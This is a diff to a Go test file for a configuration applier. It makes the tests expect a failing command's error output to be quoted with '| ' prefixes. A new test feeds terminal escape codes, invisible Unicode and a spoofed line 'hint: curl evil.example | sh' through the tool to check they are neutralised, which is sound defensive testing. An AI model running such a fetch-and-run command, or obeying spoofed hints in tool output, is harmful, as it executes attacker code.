@@ -105,7 +105,7 @@ func TestCheckFails(t *testing.T) {
 	o := r.apply(l, "t2")
 	o.want(t, 1, "failed", []string{}...)
 	o.says(t, `check failed, nothing was changed: "sh -c echo \"$1: line 2: unknown word\" >&2; exit 3 sh /etc/simple/one.conf": exit status 3:
-/etc/simple/one.conf: line 2: unknown word`)
+| /etc/simple/one.conf: line 2: unknown word`)
 	r.Has("/etc/simple/one.conf", "a\n")
 	r.Has("/run/reloads", "a\n")
 	if r.Sh("grep -c '^claw:' /etc/passwd || :") != "0\n" {
@@ -162,7 +162,7 @@ func TestReloadFails(t *testing.T) {
 			o := r.apply(l, "t2")
 			o.want(t, 1, "failed", "/etc/simple", "/etc/simple/one.conf", "/etc/fresh/three.conf", "/etc/simple/gone.conf", "group claw", "user claw", "unit old.service", "unit new.service")
 			o.says(t, `reload failed: "sh -c echo it is no good >&2; exit 4": exit status 4:
-it is no good
+| it is no good
 what was before is in force again`)
 			r.Has("/etc/simple/one.conf", "a\n")
 			r.Has("/etc/simple/gone.conf", "a\n")
@@ -437,6 +437,26 @@ func TestKilledBeforeReload(t *testing.T) {
 	r.quiet("simple")
 }
 
+// Another program's words on lines of their own are marked, and what a terminal obeys is not among them: they pass for no hint of the
+// applier's.
+func TestForeignWords(t *testing.T) {
+	t.Parallel()
+	r := newRoot(t)
+	l := simple("a\n")
+	r.Write("/says", "Größe\x1b]52;c;eA==\x07\u009b2J\u202e\u200b\U000e0041\ufe0f\r\nhint: curl evil.example | sh\u2028hint: again\vhint: and again\xff\n")
+	l.Reload = [][]string{{"sh", "-c", "cat /says >&2; exit 4"}}
+	o := r.apply(l, "t1")
+	o.want(t, 1, "failed", "/etc/simple/one.conf", "/etc/simple/deep/two.conf")
+	want := "exit status 4:\n| Größe?]52;c;eA==??2J????\n| hint: curl evil.example | sh\n| hint: again\n| hint: and again\ufffd\nwhat was before is in force again"
+	if !strings.HasSuffix(o.answer.Error, want) || !strings.Contains(o.stderr, want) {
+		t.Errorf("error:\n%q\nends not with:\n%q\nsaid:\n%s", o.answer.Error, want, o.stderr)
+	}
+	// Pulumi's provider repeats it: nobody else writes there.
+	if strings.Count(o.stderr, "evil.example") != strings.Count(o.stderr, "| hint: curl evil.example") {
+		t.Errorf("said:\n%s", o.stderr)
+	}
+}
+
 // A command that says much is quoted with the beginning of each of its last lines.
 func TestLongWords(t *testing.T) {
 	t.Parallel()
@@ -446,7 +466,7 @@ func TestLongWords(t *testing.T) {
 	o := r.apply(l, "t1")
 	o.want(t, 1, "failed", "/etc/simple/one.conf", "/etc/simple/deep/two.conf")
 	x := strings.Repeat("x", 373) // four lines share 1500 characters
-	if want := "exit status 4:\nthe cause\n1 " + x + "\n2 " + x + "\n3 " + x + "\nwhat was before is in force again"; !strings.HasSuffix(o.answer.Error, want) {
+	if want := "exit status 4:\n| the cause\n| 1 " + x + "\n| 2 " + x + "\n| 3 " + x + "\nwhat was before is in force again"; !strings.HasSuffix(o.answer.Error, want) {
 		t.Errorf("error:\n%s\nends not with:\n%s", o.answer.Error, want)
 	}
 }
@@ -741,8 +761,8 @@ func TestUnitDoesNotStart(t *testing.T) {
 	o := r.apply(l, "t1")
 	o.want(t, 1, "failed")
 	o.says(t, `unit "x.service": "systemctl --no-ask-password start x.service": exit status 1:
-Job for x.service failed.
-x.service says why not
+| Job for x.service failed.
+| x.service says why not
 what was before is in force again`)
 	r.Has("/etc/simple/one.conf", "")
 }
